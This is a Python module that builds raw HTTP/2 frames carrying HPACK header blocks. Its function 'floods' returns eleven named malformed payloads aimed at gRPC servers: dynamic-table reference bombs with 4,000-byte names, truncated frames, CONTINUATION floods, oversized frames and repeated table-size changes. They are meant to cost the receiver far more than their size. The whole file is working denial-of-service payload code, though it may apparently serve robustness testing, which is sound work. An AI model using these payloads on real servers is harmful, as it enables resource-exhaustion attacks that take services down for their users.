"""Header blocks that cost their receiver far more than their bytes, as HTTP/2 frames of stream 1."""

from typing import Final

HEADERS, SETTINGS, PUSH_PROMISE, CONTINUATION = 1, 4, 5, 9
END_HEADERS, PADDED, PRIORITY = 4, 8, 32
NAME: Final = b"a" * 4000
"""About as long as an entry of the dynamic table can be; gRPC copies it at each reference."""
BLOCK: Final = 16_000
"""Bytes, a little less than a frame holds."""


def frame(kind: int, flags: int, payload: bytes, stream: int = 1) -> bytes:
    """Give one frame (RFC 9113 section 4.1)."""
    return len(payload).to_bytes(3) + bytes((kind, flags)) + stream.to_bytes(4) + payload


def integer(value: int, bits: int, first: int = 0) -> bytes:
    """Give an integer with a prefix of ``bits`` below the bits of ``first`` (RFC 7541 section 5.1)."""
    limit = (1 << bits) - 1
    if value < limit:
        return bytes((first | value,))
    out, value = [first | limit], value - limit
    while value >= 128:
        out.append(value & 127 | 128)
        value >>= 7
    return bytes((*out, value))


def text(data: bytes) -> bytes:
    """Give a string as it is, without Huffman's code (RFC 7541 section 5.2)."""
    return integer(len(data), 7) + data


def literal(name: bytes, value: bytes, *, is_kept: bool = False) -> bytes:
    """Give a field in full, for the dynamic table or not (RFC 7541 section 6.2)."""
    return (b"\x40" if is_kept else b"\0") + text(name) + text(value)


def request_fields(method: str = "/x0d.v1.NodeService/GetStatus") -> bytes:
    """Give the fields of a call of gRPC's."""
    pairs = {
        ":method": "POST", ":scheme": "http", ":path": method, ":authority": "x",
        "content-type": "application/grpc", "te": "trailers",
    }  # fmt: skip
    return b"".join(literal(name.encode(), value.encode()) for name, value in pairs.items())


def floods(fields: bytes) -> dict[str, bytes]:
    """Every shape, each begun with ``fields`` so that a receiver takes it for a call or an answer."""
    begun = frame(HEADERS, 0, fields)
    bomb = fields + literal(NAME, b"", is_kept=True)
    bomb += b"\xbe" * (BLOCK - len(bomb))
    return {
        "dynamic references": frame(HEADERS, END_HEADERS, bomb),
        "a last byte that never comes": frame(HEADERS, END_HEADERS, bomb + b"\xbe")[:-1],
        "a table that an earlier block filled": frame(HEADERS, END_HEADERS, fields + literal(NAME, b"", is_kept=True))
        + frame(HEADERS, END_HEADERS, fields + b"\xbe" * 10_000, 3),
        "references in continuations": begun
        + frame(CONTINUATION, 0, literal(NAME, b"", is_kept=True))
        + b"".join(frame(CONTINUATION, 0, b"\xbe" * 1500) for _ in range(4)),
        "static references": frame(HEADERS, END_HEADERS, fields + b"\x94" * BLOCK),
        "names of one character": frame(HEADERS, END_HEADERS, fields + literal(b"a", b"") * 4000),
        "continuations": begun + frame(CONTINUATION, 0, literal(b"a" * 60, b"b" * 100) * 90) * 10,
        "empty continuations": begun + frame(CONTINUATION, 0, b"") * 20,
        "an oversized frame": frame(HEADERS, END_HEADERS, fields + literal(b"a", b"b" * 17_000)),
        "an oversized block": begun + frame(CONTINUATION, END_HEADERS, literal(b"a", b"b" * 16_380)),
        "changes of the table's size": frame(HEADERS, END_HEADERS, b"\x20" * 5000 + fields),
    }
